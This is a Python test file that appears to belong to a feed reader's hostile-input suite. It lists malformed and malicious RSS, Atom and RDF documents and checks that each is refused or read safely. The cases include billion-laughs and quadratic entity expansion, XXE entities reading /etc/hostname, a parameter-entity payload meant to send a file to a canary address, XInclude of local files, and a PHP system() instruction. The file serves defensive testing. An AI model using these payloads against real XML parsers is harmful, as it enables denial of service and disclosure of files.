# ruff: noqa: E501  # a case is a row, however long
"""XML that is too deep, torn, mislabelled, or that would have us read something else."""

import codecs
import gzip
import io
import zipfile

from hostile.case import Case, read, refused
from hostile.make import NEWS_TEXT, PROLOG, atom, entry, item, link, rdf, rss, title
from hostile.world import SECRET

_FILE = "file:///etc/hostname"
_GOOD = rss(item(1), item(2))
_LATIN = rss(item(1, title="Größere Brücke")).decode()


def _doctype(inner: str, root: str = "rss") -> str:
    return f"{PROLOG}<!DOCTYPE {root} [{inner}]>"


def _laughs() -> bytes:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return rss(item(1).replace(title(1), "&l9;"), item(2), prolog=_doctype(f'<!ENTITY l0 "lol">{steps}'))


def _quadratic() -> bytes:
    return rss(item(1).replace(title(1), "&a;" * 20_000), item(2), prolog=_doctype(f'<!ENTITY a "{"a" * 20_000}">'))


def _entity(declaration: str, reference: str = "&x;") -> bytes:
    """The second item has nothing to do with it."""
    return rss(item(1).replace(NEWS_TEXT, reference), item(2), prolog=_doctype(declaration))


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("feed.xml", _GOOD)
    return packed.getvalue()


def _nested(name: str, levels: int, root: str = "") -> str:
    return f"<{name}>" * levels + root + f"</{name}>" * levels


def _relabelled(encoding: str, said: str) -> bytes:
    return _LATIN.replace('encoding="utf-8"', f'encoding="{said}"').encode(encoding)


_GOOD_2 = {"kept": 2, "holds": (title(1), title(2))}

LIMITS = (
    refused("rss", "<!-- by the megabyte, never closed, and nothing else", b"<!--" * 250_000),
    refused("rss", "a feed's root, then <!-- by the megabyte", lambda: _GOOD[:400] + b"<!--" * 250_000),
    read("rss", "<!-- by the megabyte behind a whole item", lambda: _GOOD.replace(b"</channel></rss>", b"<!--" * 250_000), 2),
    read("rss", "comments by the megabyte before the root", lambda: rss(prolog=PROLOG + "<!-- x -->" * 100_000)),
    read("rss", "one comment of a megabyte", lambda: rss(prolog=PROLOG + f"<!--{'x ' * 500_000}-->")),
    read("atom", "<!-- 100,000 times in an entry's HTML", lambda: atom(entry(1, body="<p>Brücke</p>" + "<!--" * 100_000), entry(2)), 2),
    read("rss", "<!-- 100,000 times in a CDATA section", lambda: rss(item(1, body="", extra=f"<description><![CDATA[{'<!--' * 100_000}]]></description>"), item(2)), 2),
    read("rss", "100,000 levels within an item", lambda: rss(item(1, extra=_nested("a", 100_000)), item(2))),
    read("rss", "100,000 levels that never end", lambda: _GOOD.replace(b"</channel></rss>", b"<a>" * 100_000), kept=2),
    read("atom", "100,000 levels in XHTML content", lambda: atom(entry(1, body="", extra=f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{_nested("b", 100_000)}</div></content>'), entry(2)), kept=2),
    read("rss", "100,000 levels of HTML, escaped: flattened", lambda: rss(item(1, body=_nested("div", 100_000)), item(2)), kept=2, holds=(title(2),)),
    read("atom", "100,000 levels of HTML, escaped", lambda: atom(entry(1, body="<div>" * 100_000), entry(2)), kept=2, holds=(title(2),)),
    read("rdf", "100,000 levels around the channel", lambda: rdf().replace(b"<channel", b"<a>" * 100_000 + b"<channel")),
    refused("rss", "100,000 levels and no feed", lambda: b"<a>" * 100_000, seconds=10),
    read("rss", "200 levels of categories inside each other", rss(item(1, extra=_nested("category", 200, "Brücken")), item(2)), None, holds=(title(2),)),
    read("rss", "10,000 attributes on one element", lambda: rss(item(1, extra="<x " + " ".join(f'a{n}="1"' for n in range(10_000)) + "/>"), item(2)), 2),
    read("rss", "an attribute of a megabyte", lambda: rss(item(1, extra=f'<enclosure url="https://www.talland.example/{"a" * 1_000_000}" type="audio/mpeg" length="1"/>'), item(2)), 2),
    read("rss", "an element's name of 40 kB", lambda: rss(item(1, extra=f"<{'n' * 40_000}/>"), item(2)), 2),
    read("rss", "10,000 namespaces", lambda: rss(item(1, extra="".join(f'<n{n}:x xmlns:n{n}="urn:{n}"/>' for n in range(10_000))), item(2)), 2),
    read("rss", "processing instructions by the thousand", lambda: rss(head="<?x y?>" * 10_000)),
)  # fmt: skip

ENTITIES = (
    read("rss", "a billion laughs", _laughs, lacks=("lollollol",), kept=2),
    read("rss", "a quadratic entity", _quadratic, lacks=("a" * 100_000,), kept=2),
    read("rss", "an entity that names itself", _entity('<!ENTITY x "&x;">'), kept=2),
    read("rss", "two entities that name each other", _entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'), kept=2),
    read("rss", "an external entity: a file", _entity(f'<!ENTITY x SYSTEM "{_FILE}">'), lacks=(SECRET,), kept=2),
    read("rss", "an external entity: a file of ours", lambda: _entity('<!ENTITY x SYSTEM "geheim.txt">'), lacks=(SECRET,), kept=2),
    read("rss", "an external entity: a public one", _entity('<!ENTITY x PUBLIC "-//T//X" "{canary}/public">'), kept=2),
    read("rss", "an external entity: an address", _entity('<!ENTITY x SYSTEM "{canary}/entity">'), kept=2),
    read("atom", "an external entity in Atom", atom(entry(1, extra="<rights>&x;</rights>"), prolog=_doctype('<!ENTITY x SYSTEM "{canary}/atom">', "feed"))),
    read("rdf", "an external entity in RDF", rdf(item(1, extra="<dc:rights>&x;</dc:rights>"), prolog=_doctype('<!ENTITY x SYSTEM "{canary}/rdf">', "rdf:RDF"))),
    read("rss", "an external entity in an attribute", rss(item(1, extra='<enclosure url="&x;" type="a/b" length="1"/>'), item(2), prolog=_doctype('<!ENTITY x SYSTEM "{canary}/attribute">')), kept=2),
    read("rss", "a parameter entity", _entity('<!ENTITY % p SYSTEM "{canary}/parameter"> %p;', "x"), kept=2),
    read("rss", "a parameter entity that would send a file", _entity(f'<!ENTITY % f SYSTEM "{_FILE}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{{canary}}/?%f;\'>"> %e; %s;', "x"), kept=2),
    read("rss", "a DTD on the network", rss(item(1), item(2), prolog=PROLOG + '<!DOCTYPE rss SYSTEM "{canary}/rss.dtd">'), kept=2),
    read("rss", "the DTD of RSS 0.91, as it was used", rss(item(1), item(2), prolog=PROLOG + '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "{canary}/rss-0.91.dtd">'), **_GOOD_2),
    read("rss", "an unparsed entity and a notation", _entity('<!NOTATION n SYSTEM "{canary}/n"><!ENTITY x SYSTEM "{canary}/u" NDATA n>', "x"), kept=2),
    read("rss", "an attribute list with a default address", rss(item(1), prolog=_doctype('<!ATTLIST item xml:base CDATA "{canary}/base/">'))),
    read("rss", "XInclude of a file, as text", rss(item(1, extra=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{_FILE}" parse="text"/>'), item(2)), 2, lacks=(SECRET,)),
    read("atom", "XInclude of an address", atom(entry(1, extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}/xinclude"/>'), entry(2)), 2),
    read("rss", "an XSLT style sheet", rss(prolog=PROLOG + '<?xml-stylesheet type="text/xsl" href="{canary}/s.xsl"?>')),
    read("rss", "a CSS style sheet with a script", rss(prolog=PROLOG + '<?xml-stylesheet type="text/css" href="javascript:NIEMALS"?>'), lacks=("NIEMALS",)),
    read("rss", "a schema on the network", rss(item(1, extra='<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {canary}/x.xsd"/>'))),
    read("rss", "a PHP instruction in an item", rss(item(1, extra="<?php system('id'); ?>"), item(2)), 2, lacks=("system(",)),
)  # fmt: skip

CHARACTERS = (
    read("rss", "NULs between the tags", _GOOD.replace(b"<item>", b"\0<item>\0"), **_GOOD_2),
    read("rss", "a NUL in a title", _GOOD.replace(title(1).encode(), b"Neue\0 Bruecke"), 2, holds=("Neue Bruecke", title(2)), lacks=("\0",)),
    refused("rss", "a NUL in each word", _GOOD.replace(b"e", b"e\0")),
    refused("rss", "nothing but NULs", b"\0" * 100_000),
    read("rss", "control characters in a title", rss(item(1, title="Neue\x01 Brücke\x08\x1b[31m bei\x0b Hohenried\x7f"), item(2)), 2, holds=("Hohenried",), lacks=("\x1b", "\x01", "\x08", "\x7f")),
    read("rss", "a reference to a control character", rss(item(1).replace(title(1), "Neue&#1; Brücke&#27;"), item(2)), 2, holds=("Neue Brücke",), lacks=("\x01", "\x1b")),
    read("rss", "a reference to NUL", rss(item(1).replace(title(1), "Neue&#0; Brücke&#x0;"), item(2)), 2, holds=("Neue Brücke",)),
    read("rss", "a reference to a surrogate", rss(item(1).replace(title(1), "Neue &#xD800;Brücke&#57343;"), item(2)), 2, holds=("Neue Brücke",)),
    read("atom", "a reference to a surrogate in Atom", atom(entry(1).replace(title(1), "Neue &#xD83D;&#xDE00;Brücke"), entry(2)), 2, holds=(title(2),)),
    read("rss", "a raw surrogate", rss(item(1, title="Neue \ud800Brücke"), item(2)), 2, holds=("Brücke", title(2)), lacks=("\ud800",)),
    read("rss", "U+FFFE and U+FFFF, raw", rss(item(1, title="Neue\ufffe Brücke\uffff"), item(2)), 2, holds=("Neue Brücke",), lacks=("\ufffe", "\uffff")),
    read("rss", "U+FFFE and U+FFFF by reference", rss(item(1).replace(title(1), "Neue&#xFFFE; Brücke&#65535;"), item(2)), 2, holds=("Neue Brücke",)),
    read("rss", "references beyond Unicode", rss(item(1).replace(title(1), "Neue&#x110000; Brücke&#99999999999999;"), item(2)), 2, holds=(title(2),)),
    read("rss", "a reference of a megabyte", lambda: rss(item(1).replace(title(1), f"Neue &#{'9' * 1_000_000}; Brücke"), item(2)), 2, holds=(title(2),)),
    read("rss", "overlong UTF-8", _GOOD.replace(b"<item>", b"<item><category>\xc0\xbc\xe0\x80\xaf</category>", 1), 2),
    read("rss", "UTF-8 of five and six bytes", _GOOD.replace(b"<item>", b"<item><category>\xf8\x88\x80\x80\x80</category>", 1), 2),
    read("rss", "UTF-8 that is cut within a letter", _GOOD.replace("Brücke 1.".encode(), b"Br\xc3"), 2),
    read("rss", "bidi overrides in a title", rss(item(1, title="Neue \u202eekcürB\u202c \u2066in\u2069 Hohenried")), holds=("Hohenried",)),
    read("rss", "zero-width characters in a title", rss(item(1, title="Neue\u200b Brü\u00adcke\ufeff\u2060")), holds=("Neue Brücke",)),
    read("rss", "a title of nothing visible", rss(item(1, title="\u200b\u00ad\ufeff \u2060"), item(2)), 2, holds=(title(2),)),
    read("rss", "a letter under 100,000 accents", lambda: rss(item(1, title="a" + "\u0301" * 100_000), item(2)), 2, holds=(title(2),)),
    read("rss", "private-use and unassigned characters", rss(item(1, title="Neue \ue000\U000f0000\U0010fffd Brücke")), holds=("Brücke",)),
    read("rss", "line and paragraph separators", rss(item(1, title="Neue\u2028Brücke\u2029bei Hohenried")), holds=("Neue Brücke bei Hohenried",)),
)  # fmt: skip

ENCODINGS = (
    read("rss", "UTF-16 without a mark", _LATIN.encode("utf-16-le"), holds=("Größere Brücke",)),
    read("rss", "UTF-16, big end first, without a mark", _LATIN.encode("utf-16-be"), holds=("Größere Brücke",)),
    read("rss", "UTF-16 with a mark, says UTF-8", codecs.BOM_UTF16_LE + _LATIN.encode("utf-16-le"), holds=("Größere Brücke",)),
    read("rss", "UTF-8 that says UTF-16", _relabelled("utf-8", "utf-16"), holds=("Größere Brücke",)),
    read("rss", "UTF-32 with a mark", codecs.BOM_UTF32_BE + _LATIN.encode("utf-32-be"), holds=("Größere Brücke",)),
    read("rss", "Windows-1252 that says UTF-8", _relabelled("cp1252", "utf-8"), holds=("Größere Brücke",)),
    read("rss", "UTF-8 that says ISO-8859-1", _relabelled("utf-8", "iso-8859-1"), holds=("Größere Brücke",)),
    read("rss", "UTF-8 whose header says US-ASCII", _LATIN.encode(), holds=("Größere Brücke",), media_type="text/xml; charset=us-ascii"),
    read("rss", "an encoding that nobody knows", _relabelled("utf-8", "klingon-8"), holds=("Größere Brücke",)),
    read("rss", "a codec that is no character encoding", _relabelled("utf-8", "zlib_codec"), holds=("Größere Brücke",)),
    read("rss", "the codec that evaluates escapes", _relabelled("utf-8", "unicode_escape"), holds=("Größere Brücke",)),
    read("rss", "UTF-7 that hides a script", rss(item(1, title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-")).replace(b'"utf-8"', b'"utf-7"'), holds=("+ADw-",)),
    read("rss", "a charset of a megabyte in the header", _LATIN.encode(), holds=("Größere Brücke",), media_type="text/xml; charset=" + "a" * 5_000),
    read("rss", "two byte order marks", codecs.BOM_UTF8 * 2 + _LATIN.encode(), holds=("Größere Brücke",)),
    read("rss", "a mark and blank lines before the prolog", codecs.BOM_UTF8 + b"\n \t\n" + _LATIN.encode(), holds=("Größere Brücke",)),
    read("rss", "XML 1.1", _LATIN.replace('version="1.0"', 'version="1.1"', 1).encode(), holds=("Größere Brücke",)),
    read("rss", "XML 9.9, standalone perhaps", _LATIN.replace('version="1.0"', 'version="9.9" standalone="vielleicht"', 1).encode(), holds=("Größere Brücke",)),
    read("rss", "two prologs", (PROLOG + _LATIN).encode()),
    read("rss", "a prolog that never ends", _LATIN.replace("?>", "", 1).encode(), kept=1),
    read("rss", "line ends of CR alone", _GOOD.replace(b"\n", b"\r").replace(b"><", b">\r<"), **_GOOD_2),
    read("rss", "line ends of CR and LF", _GOOD.replace(b"><", b">\r\n<"), **_GOOD_2),
    read("rss", "a gzip file under the name of a feed", gzip.compress(_GOOD, mtime=0), **_GOOD_2),
    refused("rss", "a ZIP archive", _zip),
    refused("rss", "a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n" + _GOOD),
    refused("rss", "a PNG with a feed behind it", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + _GOOD),
    refused("rss", "random bytes", bytes((n * 97 + n // 7 * 31) % 256 for n in range(20_000))),
    refused("rss", "nothing at all", b""),
    refused("rss", "white space alone", b" \n\t\r\n" * 1000),
    refused("rss", "a byte order mark alone", codecs.BOM_UTF8),
)  # fmt: skip

STRUCTURE = (
    read("rss", "a channel without items", rss(head="").replace(item().encode(), b""), kept=0),
    read("atom", "a feed without entries", atom().replace(entry().encode(), b""), kept=0),
    read("rss", "empty elements everywhere", rss("<item><title/><link/><guid/><description/><pubDate/></item>", item(2)), kept=1, holds=(title(2),)),
    read("atom", "an empty entry between two", atom(entry(1), "<entry/>", entry(2)), **_GOOD_2),
    read("rdf", "an empty item between two", rdf(item(1), "<item/>", item(2)), **_GOOD_2),
    read("rss", "no title, no link, no guid: only a text", rss(item(1, title="", link="", guid=""), item(2)), 2, holds=("neue Brücke",)),
    read("rss", "the same guid on all items", rss(*(item(n, guid="immer-gleich") for n in range(1, 6))), 5),
    read("atom", "the same id on all entries", atom(*(entry(n, id="urn:immer:gleich") for n in range(1, 6))), 5),
    read("rss", "items within items", rss(item(1, extra=item(2)), item(3)), kept=None, holds=(title(3),)),
    read("rss", "the items outside the channel", rss().replace(b"</channel>", b"</channel>" + item(2).encode()), kept=None, holds=(title(1),)),
    read("rss", "two roots", _GOOD + _GOOD.removeprefix(PROLOG.encode()), kept=None, holds=(title(1),)),
    read("rss", "something behind the end", _GOOD + b"\n<!-- served in 0.3 s -->\n<script>NIEMALS()</script>", lacks=("NIEMALS",), **_GOOD_2),
    read("rss", "a warning before the beginning", b"<br />\n<b>Warning</b>: mysql_connect() in <b>/srv/db.php</b><br />\n" + _GOOD, kept=None),
    read("rss", "bare ampersands and angle brackets", rss(item(1).replace(title(1), "Bau & Verkehr < 3 > 2 &c; &&"), item(2)), 2, holds=(title(2),)),
    read("rss", "HTML's names of characters", rss(item(1).replace(title(1), "Br&uuml;cke&nbsp;&ndash;&hellip;&unbekannt;"), item(2)), 2, holds=("Brücke", title(2))),
    read("rss", "unclosed tags within an item", rss(item(1, extra="<category>Bau<b>"), item(2)), kept=None),
    read("rss", "attributes without quotation marks", _GOOD.replace(b'isPermaLink="false"', b"isPermaLink=false"), kept=None),
    read("rss", "an attribute twice", _GOOD.replace(b'isPermaLink="false"', b'isPermaLink="false" isPermaLink="true"'), kept=None),
    read("rss", "a prefix that is bound to nothing", rss(item(1, extra="<nirgends:wo>x</nirgends:wo>"), item(2)), **_GOOD_2),
    read("rss", "CDATA that never ends", rss(item(1), item(2)).replace(b"</channel>", b"<item><title><![CDATA[Neu</channel>"), kept=2, holds=(title(1), title(2))),
    read("rss", "CDATA within CDATA", rss(item(1, body="", extra="<description><![CDATA[a <![CDATA[b]]> c ]]&gt;</description>"), item(2)), kept=None, holds=(title(2),)),
    read("rss", "names in capitals", _GOOD.replace(b"item>", b"ITEM>").replace(b"title>", b"TITLE>"), kept=None),
    refused("rss", "RSS's root alone", PROLOG.encode() + b"<rss"),
    refused("rss", "a sitemap", PROLOG.encode() + b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url/></urlset>'),
    refused("rss", "an SVG picture with a script", b'<svg xmlns="http://www.w3.org/2000/svg" onload="NIEMALS()"><script>NIEMALS()</script></svg>'),
    refused("opml", "an OPML list where a feed should be", PROLOG.encode() + f'<opml version="2.0"><body><outline xmlUrl="{link(1)}"/></body></opml>'.encode()),
    refused("opml", "an OPML list with an external entity", _doctype('<!ENTITY x SYSTEM "{canary}/opml">', "opml").encode() + b"<opml><body>&x;</body></opml>"),
    refused("rss", "SOAP", PROLOG.encode() + b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>'),
)  # fmt: skip

CASES: tuple[Case, ...] = (*LIMITS, *ENTITIES, *CHARACTERS, *ENCODINGS, *STRUCTURE)
